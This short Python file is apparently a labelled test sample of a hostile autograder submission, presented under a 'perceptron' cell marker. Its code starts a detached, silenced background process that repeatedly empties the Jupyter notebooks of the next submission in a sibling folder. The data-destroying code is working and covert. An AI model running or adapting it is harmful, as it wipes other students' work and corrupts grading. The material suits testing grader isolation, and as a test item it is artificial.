"""Leaves a process behind that waits for the next hand-in to be graded, and then spoils
the notebook in the folder above.

family: background
honest: 3
harms itself: no
"""

# %% perceptron
import subprocess
import sys

LATE = """
import glob, os, time
for _ in range(600):
    for path in glob.glob("../../*-next/*/*.ipynb"):
        os.chmod(path, 0o644)
        open(path, "w").close()
    time.sleep(0.1)
"""
subprocess.Popen(
    [sys.executable, "-c", LATE],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
